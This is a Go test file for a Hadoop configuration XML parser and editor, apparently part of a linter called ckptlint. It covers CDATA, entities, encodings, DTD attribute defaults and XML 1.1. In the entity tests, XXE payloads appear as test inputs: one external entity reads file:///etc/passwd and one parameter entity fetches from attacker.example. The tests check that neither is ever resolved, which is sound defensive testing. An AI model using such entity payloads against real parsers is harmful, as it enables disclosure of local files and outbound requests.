package hadoopxml

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestCDATAPerHadoopLine mirrors TestConfiguration.testCDATA (Hadoop 3.4.1,
// hadoop-common src/test/java/org/apache/hadoop/conf/TestConfiguration.java)
// on the releases that read CDATA, and the same values on the releases whose
// StAX loop (HADOOP-14216) dropped CDATA events.
func TestCDATAPerHadoopLine(t *testing.T) {
	src := conf(prop("cdata", "<![CDATA[>cdata]]>") +
		prop("cdata-multiple", "<![CDATA[>cdata1]]> and <![CDATA[>cdata2]]>") +
		prop("cdata-multiline", "<![CDATA[>cdata\nmultiline<>]]>") +
		prop("cdata-whitespace", "  prefix <![CDATA[>cdata]]>\nsuffix  "))
	reads := map[string]string{
		"cdata": ">cdata", "cdata-multiple": ">cdata1 and >cdata2",
		"cdata-multiline": ">cdata\nmultiline<>", "cdata-whitespace": "  prefix >cdata\nsuffix  ",
	}
	ignores := map[string]string{
		"cdata": "<nil>", "cdata-multiple": " and ",
		"cdata-multiline": "<nil>", "cdata-whitespace": "  prefix \nsuffix  ",
	}
	for _, tt := range []struct {
		line                string
		major, minor, patch int
		want                map[string]string
	}{
		{"2.8.5 (DOM parser)", 2, 8, 5, reads},
		{"2.9.2", 2, 9, 2, ignores},
		{"2.10.0", 2, 10, 0, ignores},
		{"2.10.1", 2, 10, 1, reads},
		{"3.0.3", 3, 0, 3, ignores},
		{"3.1.3", 3, 1, 3, ignores},
		{"3.1.4", 3, 1, 4, reads},
		{"3.2.1", 3, 2, 1, ignores},
		{"3.2.2", 3, 2, 2, reads},
		{"3.3.0", 3, 3, 0, reads},
		{"3.4.1", 3, 4, 1, reads},
	} {
		t.Run(tt.line, func(t *testing.T) {
			ign := CDATAIgnored(tt.major, tt.minor, tt.patch)
			f := Parse("core-site.xml", []byte(src), Options{IgnoreCDATA: ign})
			if f.Err != nil {
				t.Fatal(f.Err)
			}
			for k, want := range tt.want {
				if got := looked(f, k); got != want {
					t.Errorf("testCDATA on %s: get(%q) = %q, want %q", tt.line, k, got, want)
				}
			}
			code := NoticeCDATA
			if ign {
				code = NoticeCDATAIgnored
			}
			for _, n := range f.Notices {
				if strings.HasPrefix(n.Code, "xml-cdata") && n.Code != code {
					t.Errorf("notice %s on %s, want %s", n.Code, tt.line, code)
				}
			}
		})
	}
}

// TestEntities mirrors TestConfiguration.testEntityReference (an internal
// entity is expanded in values) and testSystemEntityReference (Hadoop reads
// an external entity's file; ckptlint never does and says so).
func TestEntities(t *testing.T) {
	conf := func(body string) string { return "<configuration>\n" + body + "</configuration>\n" }
	tests := []struct {
		name, upstream, src string
		want                map[string]string
		unknown             string // key whose value is unknown
		codes               []string
	}{
		{
			name: "internal entity", upstream: "testEntityReference",
			src: "<!DOCTYPE configuration [<!ENTITY nn \"hdfs://nn:8020\">]>\n" +
				conf(prop("fs.defaultFS", "&nn;")+prop("b", "x&nn;/y")),
			want: map[string]string{"fs.defaultFS": "hdfs://nn:8020", "b": "xhdfs://nn:8020/y"},
		},
		{
			name: "nested internal entities and character references", upstream: "testEntityReference",
			src: "<!DOCTYPE configuration [<!ENTITY h \"nn\"><!ENTITY u 'hdfs://&h;:&#56;020&lt;'>]>\n" +
				conf(prop("a", "&u;")),
			want: map[string]string{"a": "hdfs://nn:8020<"},
		},
		{
			name: "entity in the attribute form", upstream: "testEntityReference",
			src:  "<!DOCTYPE configuration [<!ENTITY v \"64m\">]>\n<configuration><property name=\"dfs.blocksize\" value=\"&v;\"/></configuration>",
			want: map[string]string{"dfs.blocksize": "64m"},
		},
		{
			name: "first declaration binds", upstream: "XML 1.0 section 4.2",
			src:  "<!DOCTYPE configuration [<!ENTITY v \"1\"><!ENTITY v \"2\">]>\n" + conf(prop("a", "&v;")),
			want: map[string]string{"a": "1"},
		},
		{
			name: "external SYSTEM entity is never read", upstream: "testSystemEntityReference",
			src: "<!DOCTYPE configuration [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n" +
				conf(prop("a", "&xxe;")),
			want:    map[string]string{"a": "&xxe;"},
			unknown: "a",
			codes:   []string{NoticeExternalEntity},
		},
		{
			name: "external PUBLIC entity is never read", upstream: "testSystemEntityReference",
			src: "<!DOCTYPE configuration [<!ENTITY e PUBLIC \"-//x//y\" \"http://example.com/v\">]>\n" +
				conf(prop("a", "pre-&e;")),
			want:    map[string]string{"a": "pre-&e;"},
			unknown: "a",
			codes:   []string{NoticeExternalEntity},
		},
		{
			name: "external parameter entity is never fetched", upstream: "testSystemEntityReference",
			src: "<!DOCTYPE c [ <!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p; ]>\n" +
				conf(prop("a", "2")),
			want:  map[string]string{"a": "2"},
			codes: []string{NoticeParamEntity},
		},
		{
			// Woodstox expands internal parameter entities (XML 1.0
			// §4.4.8 "Included as PE"); see TestParamEntities
			name: "internal parameter entity is expanded", upstream: "testEntityReference",
			src:  "<!DOCTYPE c [ <!ENTITY % p \"<!ENTITY q 'x'>\"> %p; ]>\n" + conf(prop("a", "&q;")),
			want: map[string]string{"a": "x"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := Parse("core-site.xml", []byte(tt.src), Options{})
			if f.Err != nil {
				t.Fatalf("TestConfiguration.%s: %v", tt.upstream, f.Err)
			}
			for k, want := range tt.want {
				if got := looked(f, k); got != want {
					t.Errorf("TestConfiguration.%s: get(%q) = %q, want %q", tt.upstream, k, got, want)
				}
			}
			for _, e := range f.Entries {
				if (e.Key == tt.unknown) != (e.Unknown != "") {
					t.Errorf("%s: Unknown = %q", e.Key, e.Unknown)
				}
				if e.Unknown != "" && !strings.Contains(e.Unknown, "ckptlint does not resolve external entities; Hadoop would read ") {
					t.Errorf("Unknown = %q", e.Unknown)
				}
				if strings.Contains(e.Value, "root:") || strings.ContainsRune(e.Value, '\uFDD0') {
					t.Errorf("value %q", e.Value)
				}
			}
			if diff := cmp.Diff(tt.codes, noticeCodes(f)); diff != "" {
				t.Errorf("notice codes (-want +got):\n%s", diff)
			}
		})
	}
}

// TestEncodings mirrors TestConfiguration.testCharsetInDocumentEncoding (an
// ISO-8859-1 file with a declaration is read as ISO-8859-1) and the encoding
// detection of XML 1.0 appendix F that Hadoop's StAX parser applies (UTF-16
// with a byte-order mark or starting "<?xml"); the editor keeps the file's
// encoding (issue 9.10: UTF-16 with a declaration).
func TestEncodings(t *testing.T) {
	utf16 := func(s string, big, bom bool) string {
		var b strings.Builder
		if bom {
			if big {
				b.WriteString("\xFE\xFF")
			} else {
				b.WriteString("\xFF\xFE")
			}
		}
		for _, u := range utf16Encode(s) {
			if big {
				b.WriteByte(byte(u >> 8))
				b.WriteByte(byte(u))
			} else {
				b.WriteByte(byte(u))
				b.WriteByte(byte(u >> 8))
			}
		}
		return b.String()
	}
	doc := func(enc, value string) string {
		return "<?xml version=\"1.0\" encoding=\"" + enc + "\"?>\n<configuration>\n" + prop("c", value) + "</configuration>\n"
	}
	tests := []struct {
		name, src, enc string
		want           string
		// set writes this value with the editor and checks the file keeps
		// its encoding: the result must contain setBytes
		set, setBytes string
	}{
		{name: "ISO-8859-1 (testCharsetInDocumentEncoding)", src: doc("ISO-8859-1", "M\xfcller"), enc: "ISO-8859-1", want: "Müller",
			set: "Jürgen", setBytes: "J\xfcrgen"},
		{name: "ISO-8859-1 with a character it cannot hold", src: doc("ISO-8859-1", "M\xfcller"), enc: "ISO-8859-1", want: "Müller",
			set: "5€", setBytes: "5&#8364;"},
		{name: "windows-1252", src: doc("windows-1252", "\x80 5"), enc: "windows-1252", want: "€ 5", set: "€ 6", setBytes: "\x80 6"},
		{name: "UTF-16LE with a byte-order mark and a declaration", src: utf16(doc("UTF-16", "Müller"), false, true), enc: "UTF-16LE (byte-order mark)", want: "Müller",
			set: "64m", setBytes: utf16("64m", false, false)},
		{name: "UTF-16BE with a byte-order mark", src: utf16(doc("UTF-16", "x"), true, true), enc: "UTF-16BE (byte-order mark)", want: "x",
			set: "ü", setBytes: utf16("ü", true, false)},
		{name: "UTF-16LE detected from <?xml", src: utf16(doc("UTF-16", "x"), false, false), enc: "UTF-16LE", want: "x",
			set: "y", setBytes: utf16("y", false, false)},
		{name: "pure ASCII declared ISO-8859-1 stays as it is", src: doc("ISO-8859-1", "x"), enc: "", want: "x", set: "y", setBytes: "<value>y</value>"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := ParseDoc("core-site.xml", []byte(tt.src), Options{})
			if d.Err != nil {
				t.Fatal(d.Err)
			}
			if got := looked(d.File, "c"); got != tt.want {
				t.Errorf("get(c) = %q, want %q", got, tt.want)
			}
			if d.Encoding() != tt.enc {
				t.Errorf("encoding %q, want %q", d.Encoding(), tt.enc)
			}
			// positions are those of the decoded text: line 3, after "<property><name>c</name><value>"
			e := d.Lookup("c")
			if e.ValueSpan.Start.Line != 3 || e.ValueSpan.Start.Col != 32 {
				t.Errorf("value at %v, want 3:32", e.ValueSpan.Start)
			}
			edits, err := NewEditor(d).Set("c", tt.set)
			if err != nil {
				t.Fatal(err)
			}
			out := []byte(tt.src)
			for i := len(edits) - 1; i >= 0; i-- {
				ed := edits[i]
				out = append(append(append([]byte{}, out[:ed.Start]...), ed.Text...), out[ed.End:]...)
			}
			if !strings.Contains(string(out), tt.setBytes) {
				t.Errorf("edited file %q does not contain %q", out, tt.setBytes)
			}
			if !strings.HasPrefix(string(out), tt.src[:2]) {
				t.Errorf("edited file lost its start: %q", out[:4])
			}
			again := Parse("core-site.xml", out, Options{})
			if again.Err != nil || looked(again, "c") != tt.set {
				t.Errorf("edited file reads c = %q (err %v), want %q", looked(again, "c"), again.Err, tt.set)
			}
		})
	}
}

func utf16Encode(s string) []uint16 {
	var out []uint16
	for _, r := range s {
		if r >= 0x10000 {
			r -= 0x10000
			out = append(out, uint16(0xD800+(r>>10)), uint16(0xDC00+(r&0x3FF)))
			continue
		}
		out = append(out, uint16(r))
	}
	return out
}

// TestRootElement mirrors Configuration.Parser.handleStartElement (Hadoop
// 3.4.1 Configuration.java L3240-3265; the same in 3.1.3): the StAX loop
// matches elements by local name and has no case that checks the root, so
// the <property> elements of a file whose root is not <configuration> are
// read, in the file given to Parse and in an xi:include target alike
// (a new Parser per include). Hadoop 2.x before 2.9 read with DOM
// (2.6.5 Configuration.loadResource L2526-2527): it logs FATAL "bad conf
// file: top-level element not <configuration>" and still reads the root's
// child properties. Either way the values are read; the notice says so.
func TestRootElement(t *testing.T) {
	for _, tt := range []struct {
		name  string
		top   string
		files map[string]string
		want  map[string]string
		root  string // the root named by the notice
	}{
		{name: "another root is read", top: "core-site.xml",
			files: map[string]string{"core-site.xml": "<?xml version=\"1.0\"?>\n<conf>" + prop("a", "1") + "</conf>"},
			want:  map[string]string{"a": "1"}, root: "<conf>"},
		{name: "a prefixed configuration root is <configuration>", top: "core-site.xml",
			files: map[string]string{"core-site.xml": `<h:configuration xmlns:h="urn:x">` + prop("a", "1") + "</h:configuration>"},
			want:  map[string]string{"a": "1"}},
		{name: "an included file with another root is read", top: "core-site.xml",
			files: map[string]string{"core-site.xml": conf(include("inc.xml")), "inc.xml": "<props>" + prop("b", "2") + "</props>"},
			want:  map[string]string{"b": "2"}, root: "<props>"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			f := Parse(tt.top, []byte(tt.files[tt.top]), Options{ReadFile: memFS(tt.files)})
			if f.Err != nil {
				t.Fatalf("Configuration.Parser reads it: %v", f.Err)
			}
			for k, want := range tt.want {
				if got := looked(f, k); got != want {
					t.Errorf("get(%q) = %q, want %q", k, got, want)
				}
			}
			var roots []string
			for _, n := range f.Notices {
				if n.Code == NoticeRootElement {
					roots = append(roots, n.Message)
					if n.Span.IsZero() {
						t.Errorf("notice without a position: %+v", n)
					}
				}
			}
			switch {
			case tt.root == "" && len(roots) > 0:
				t.Errorf("notices %q for a <configuration> root", roots)
			case tt.root != "" && (len(roots) != 1 || !strings.Contains(roots[0], "root element is "+tt.root+", not <configuration>")):
				t.Errorf("root notices %q, want one naming %s", roots, tt.root)
			}
		})
	}
}

// TestDTDAttributeDefaults mirrors how Hadoop's parser applies the
// attribute defaults of an internal DTD subset. Configuration.parse leaves
// DTD support on for every unrestricted resource (Hadoop 3.4.1
// Configuration.java L3064-3080) and handleStartProperty reads the
// attributes StAX reports, defaulted ones included (L3267-3292). Woodstox
// 5.4.0 (hadoop-project/pom.xml woodstox.version) is then DTD-aware
// without validating: ValidatingStreamReader.finishDTD installs a
// DTDTypingNonValidator "to get type info and to add attribute default
// values", whose validateElementAndAttributes adds every missing attribute
// that has a default (plain or #FIXED, not #REQUIRED or #IMPLIED), and
// values of attributes of a type other than CDATA are normalised (XML 1.0
// §3.3.3). The first declaration of an attribute binds (§3.3), elements
// are matched by their name as written (PrefixedName), and a child
// element such as <final> still overrides what the attribute said.
func TestDTDAttributeDefaults(t *testing.T) {
	doctype := func(decls, body string) string {
		return "<?xml version=\"1.0\"?>\n<!DOCTYPE configuration [" + decls + "]>\n<configuration>\n" + body + "</configuration>\n"
	}
	final := `<!ATTLIST property final CDATA "true">`
	for _, tt := range []struct {
		name  string
		src   string
		want  map[string]string
		final map[string]bool
		codes []string
	}{
		{name: "a default final makes every property final", src: doctype(final, prop("a", "1")+prop("a", "2")),
			want: map[string]string{"a": "1"}, final: map[string]bool{"a": true}, codes: []string{NoticeDTDDefault, NoticeFinalOverride}},
		// the first definition is not final, so the second (final by default) replaces it
		{name: "an explicit attribute wins over the default", src: doctype(final, `<property name="a" value="1" final="false"/>`+prop("a", "2")+prop("a", "3")),
			want: map[string]string{"a": "2"}, final: map[string]bool{"a": true}, codes: []string{NoticeDTDDefault, NoticeDuplicateKey, NoticeFinalOverride}},
		{name: "a <final> element overrides the defaulted attribute", src: doctype(final, "<property><name>a</name><value>1</value><final>false</final></property>\n"+prop("a", "2")),
			want: map[string]string{"a": "2"}, final: map[string]bool{"a": true}, codes: []string{NoticeDTDDefault, NoticeDuplicateKey}},
		{name: "a #FIXED value is a default too", src: doctype(`<!ATTLIST property final CDATA #FIXED 'true'>`, prop("a", "1")),
			want: map[string]string{"a": "1"}, final: map[string]bool{"a": true}, codes: []string{NoticeDTDDefault}},
		{name: "#IMPLIED and #REQUIRED give no value", src: doctype(`<!ATTLIST property final CDATA #IMPLIED value CDATA #REQUIRED>`, prop("a", "1")),
			want: map[string]string{"a": "1"}, final: map[string]bool{"a": false}},
		{name: "a default value applies where the property has none", src: doctype(`<!ATTLIST property value CDATA "64m">`, "<property><name>dfs.blocksize</name></property>\n"+prop("b", "1")),
			want: map[string]string{"dfs.blocksize": "64m", "b": "1"}, codes: []string{NoticeDTDDefault}},
		{name: "entities and character references in the default are expanded", src: doctype(`<!ENTITY t "tr"><!ATTLIST property final CDATA "&t;&#117;e">`, prop("a", "1")),
			want: map[string]string{"a": "1"}, final: map[string]bool{"a": true}, codes: []string{NoticeDTDDefault}},
		{name: "the first declaration of an attribute binds", src: doctype(final+`<!ATTLIST property final CDATA "false">`, prop("a", "1")),
			want: map[string]string{"a": "1"}, final: map[string]bool{"a": true}, codes: []string{NoticeDTDDefault}},
		{name: "a non-CDATA attribute is normalised", src: doctype(`<!ATTLIST property final NMTOKEN #IMPLIED>`, `<property name="a" value="1" final=" true "/>`),
			want: map[string]string{"a": "1"}, final: map[string]bool{"a": true}},
		{name: "an enumerated default is normalised", src: doctype(`<!ATTLIST property final (true|false) " true ">`, prop("a", "1")),
			want: map[string]string{"a": "1"}, final: map[string]bool{"a": true}, codes: []string{NoticeDTDDefault}},
		{name: "a CDATA attribute keeps its spaces", src: doctype(`<!ATTLIST property final CDATA " true ">`, prop("a", "1")),
			want: map[string]string{"a": "1"}, final: map[string]bool{"a": false}, codes: []string{NoticeDTDDefault, NoticeFinalNotTrue}},
		{name: "declarations for another element do not apply", src: doctype(`<!ATTLIST prop final CDATA "true">`, prop("a", "1")),
			want: map[string]string{"a": "1"}, final: map[string]bool{"a": false}},
		{name: "the element is matched by its name as written", src: doctype(final, `<p:property xmlns:p="urn:x"><name>a</name><value>1</value></p:property>`+"\n"),
			want: map[string]string{"a": "1"}, final: map[string]bool{"a": false}, codes: []string{NoticeDTDDefault}},
		{name: "a declaration from an internal parameter entity", src: doctype(`<!ENTITY % d "<!ATTLIST property final CDATA 'true'>"> %d;`, prop("a", "1")),
			want: map[string]string{"a": "1"}, final: map[string]bool{"a": true}, codes: []string{NoticeDTDDefault}},
		// deliberate difference (docs/input.md): ckptlint checks namespace
		// prefixes before it reads the DTD's defaults, so a defaulted
		// xmlns attribute declares nothing and the prefix stays undeclared
		{name: "an xmlns default is not applied", src: doctype(`<!ATTLIST property xmlns:p CDATA "urn:x">`, prop("a", "1")),
			want: map[string]string{"a": "1"}},
		{name: "an href default includes a file", src: doctype(`<!ATTLIST xi:include href CDATA "inc.xml">`, `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude"/>`+"\n"),
			want: map[string]string{"i": "1"}, codes: []string{NoticeDTDDefault}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			f := Parse("core-site.xml", []byte(tt.src), Options{ReadFile: memFS(map[string]string{"inc.xml": conf(prop("i", "1"))})})
			if f.Err != nil {
				t.Fatal(f.Err)
			}
			for k, want := range tt.want {
				if got := looked(f, k); got != want {
					t.Errorf("get(%q) = %q, want %q", k, got, want)
				}
			}
			for k, want := range tt.final {
				if e := f.Lookup(k); e == nil || e.Final != want {
					t.Errorf("%q final = %v, want %v", k, e != nil && e.Final, want)
				}
			}
			if diff := cmp.Diff(tt.codes, noticeCodes(f)); diff != "" {
				t.Errorf("notice codes (-want +got):\n%s", diff)
			}
			for _, n := range f.Notices {
				if n.Span.IsZero() {
					t.Errorf("notice %s without a position", n.Code)
				}
			}
		})
	}
	for _, tt := range []struct{ name, decl, msg string }{
		{"no white space between attributes", `<!ATTLIST property final CDATA "true"value CDATA "x">`, "expected white space"},
		{"no default declaration", `<!ATTLIST property final CDATA>`, "ATTLIST"},
		{"markup in the default", `<!ATTLIST property final CDATA "<x>">`, "'<'"},
		{"a parameter entity reference inside the declaration", `<!ENTITY % t "CDATA"><!ATTLIST property final %t; "true">`, "parameter entity"},
		{"an unknown type", `<!ATTLIST property final STRING "true">`, "STRING"},
	} {
		t.Run("refused/"+tt.name, func(t *testing.T) {
			f := Parse("core-site.xml", []byte(doctype(tt.decl, prop("a", "1"))), Options{})
			if f.Err == nil || !strings.Contains(f.Err.Msg, tt.msg) {
				t.Fatalf("error = %v, want one mentioning %q", f.Err, tt.msg)
			}
		})
	}
	// Woodstox declares a prefix from an xmlns default (FullDTDReader
	// addNsDefault); ckptlint checks prefixes first: a deliberate difference
	src := doctype(`<!ATTLIST configuration xmlns:xi CDATA "http://www.w3.org/2001/XInclude">`, `<xi:include href="x.xml"/>`+"\n")
	if f := Parse("core-site.xml", []byte(src), Options{}); f.Err == nil || !strings.Contains(f.Err.Msg, `undeclared namespace prefix "xi"`) {
		t.Errorf("a prefix declared by an xmlns default: error = %v, want the undeclared prefix", f.Err)
	}
}

// TestXML11 mirrors how Hadoop's parser reads an XML 1.1 file. Woodstox
// 5.4.0 reads both versions; for a 1.1 document its own readers (UTF-8,
// ISO-8859-1: io/UTF8Reader, io/ISOLatinReader, set up by
// StreamBootstrapper) turn NEL (U+0085) and LINE SEPARATOR (U+2028) into a
// line feed, a carriage return before U+2028 into one too (XML 1.1 §2.11:
// "#xD #x85" is one line end, "#xD" and "#x2028" are one each), and refuse
// a literal DEL or C1 control other than NEL ("Invalid character 0x80, can
// only be included in xml 1.1 using character entities"; XML 1.1 §2.2
// RestrictedChar). A UTF-16 or other charset goes through the JDK's
// InputStreamReader, where Woodstox does neither. encoding/xml reads only
// 1.0; ckptlint gives it the text with those line ends made, as Woodstox
// does, and reads it as 1.0 otherwise.
func TestXML11(t *testing.T) {
	decl11 := "<?xml version=\"1.1\"?>\n"
	doc := func(decl, body string) string { return decl + "<configuration>\n" + body + "</configuration>\n" }
	for _, tt := range []struct {
		name, src string
		want      map[string]string
		line      int // line of the value of "a" as the file is read (0: not checked)
	}{
		{name: "a 1.1 declaration is read", src: doc(decl11, prop("a", "1")), want: map[string]string{"a": "1"}},
		{name: "NEL in a value is a line feed", src: doc(decl11, prop("a", "x\u0085y")), want: map[string]string{"a": "x\ny"}},
		{name: "CR NEL is one line feed", src: doc(decl11, prop("a", "x\r\u0085y")), want: map[string]string{"a": "x\ny"}},
		{name: "LINE SEPARATOR is a line feed", src: doc(decl11, prop("a", "x\u2028y")), want: map[string]string{"a": "x\ny"}},
		{name: "CR LINE SEPARATOR is two line feeds", src: doc(decl11, prop("a", "x\r\u2028y")), want: map[string]string{"a": "x\n\ny"}},
		{name: "NEL around a name is trimmed", src: doc(decl11, prop("\u0085a\u0085", "1")), want: map[string]string{"a": "1"}},
		{name: "NEL in an attribute value is a space", src: doc(decl11, "<property name=\"a\" value=\"x\u0085y\"/>\n"), want: map[string]string{"a": "x y"}},
		{name: "NEL between elements ends a line", src: decl11 + "<configuration>\u0085" + prop("a", "1") + "</configuration>\n", want: map[string]string{"a": "1"}, line: 3},
		{name: "a character reference to NEL is kept", src: doc(decl11, prop("a", "x&#x85;y")), want: map[string]string{"a": "x\u0085y"}},
		{name: "ISO-8859-1 NEL is a line feed", src: doc("<?xml version=\"1.1\" encoding=\"ISO-8859-1\"?>\n", prop("a", "M\xfcl\x85ler")), want: map[string]string{"a": "Mül\nler"}},
		// XML 1.0 has none of it
		{name: "NEL in a 1.0 value is kept", src: doc("<?xml version=\"1.0\"?>\n", prop("a", "x\u0085y")), want: map[string]string{"a": "x\u0085y"}},
		{name: "LINE SEPARATOR in a value without a declaration is kept", src: doc("", prop("a", "x\u2028y")), want: map[string]string{"a": "x\u2028y"}},
		{name: "a C1 control in a 1.0 value is kept", src: doc("<?xml version=\"1.0\"?>\n", prop("a", "x\u0080y")), want: map[string]string{"a": "x\u0080y"}},
		// the JDK's reader: no 1.1 line ends
		{name: "UTF-16 is read by the JDK's reader, without 1.1 line ends", src: utf16LE(doc("<?xml version=\"1.1\" encoding=\"UTF-16\"?>\n", prop("a", "x\u0085y"))), want: map[string]string{"a": "x\u0085y"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			d := ParseDoc("core-site.xml", []byte(tt.src), Options{})
			if d.Err != nil {
				t.Fatalf("Woodstox reads it: %v", d.Err)
			}
			for k, want := range tt.want {
				if got := looked(d.File, k); got != want {
					t.Errorf("get(%q) = %q, want %q", k, got, want)
				}
			}
			if tt.line > 0 {
				if e := d.Lookup("a"); e.ValueSpan.Start.Line != tt.line {
					t.Errorf("value on line %d, want %d", e.ValueSpan.Start.Line, tt.line)
				}
			}
			// the editor writes into the file's own bytes and keeps the rest
			edits, err := NewEditor(d).Set("a", "z")
			if err != nil {
				t.Fatal(err)
			}
			out := []byte(tt.src)
			for i := len(edits) - 1; i >= 0; i-- {
				ed := edits[i]
				out = append(append(append([]byte{}, out[:ed.Start]...), ed.Text...), out[ed.End:]...)
			}
			if again := Parse("core-site.xml", out, Options{}); again.Err != nil || looked(again, "a") != "z" {
				t.Errorf("edited file %q reads a = %q (err %v)", out, looked(again, "a"), again.Err)
			}
			if !strings.HasPrefix(string(out), tt.src[:min(len(tt.src), 20)]) {
				t.Errorf("edited file lost its start: %q", out)
			}
		})
	}
	for _, tt := range []struct{ name, src, msg string }{
		{"a literal C1 control", doc(decl11, prop("a", "x\u0080y")), "U+0080"},
		{"a literal DEL", doc(decl11, prop("a", "x\x7fy")), "U+007F"},
		{"a literal C1 control in ISO-8859-1", doc("<?xml version=\"1.1\" encoding=\"ISO-8859-1\"?>\n", prop("a", "x\x9fy")), "U+009F"},
		// a failed parse holds the file's own bytes, where a NEL is not a
		// line end: the position is counted there (fuzz input 61ed6872b3940f1a)
		{"a literal C1 control after a NEL", doc(decl11, prop("a", "x\u0085\u0080y")), "U+0080"},
		{"a literal C1 control after a NEL in ISO-8859-1", doc("<?xml version=\"1.1\" encoding=\"ISO-8859-1\"?>\n", prop("a", "\x85x\x9fy")), "U+009F"},
		// XML 1.1 allows &#x1; ... &#x1F; (§2.2); encoding/xml refuses them,
		// and ckptlint with it: a deliberate difference, documented in
		// docs/input.md (no Hadoop configuration needs a control character)
		{"a character reference to a control character", doc(decl11, prop("a", "x&#x1;y")), "XML 1.1 allows it"},
	} {
		t.Run("refused/"+tt.name, func(t *testing.T) {
			f := Parse("core-site.xml", []byte(tt.src), Options{})
			if f.Err == nil || !strings.Contains(f.Err.Msg, tt.msg) {
				t.Fatalf("error = %v, want one mentioning %q", f.Err, tt.msg)
			}
			if f.Err.Pos.Line != 3 {
				t.Errorf("error on line %d, want 3", f.Err.Pos.Line)
			}
		})
	}
}

// utf16LE is s in UTF-16LE with a byte-order mark.
func utf16LE(s string) string {
	b := []byte{0xFF, 0xFE}
	for _, u := range utf16Encode(s) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}
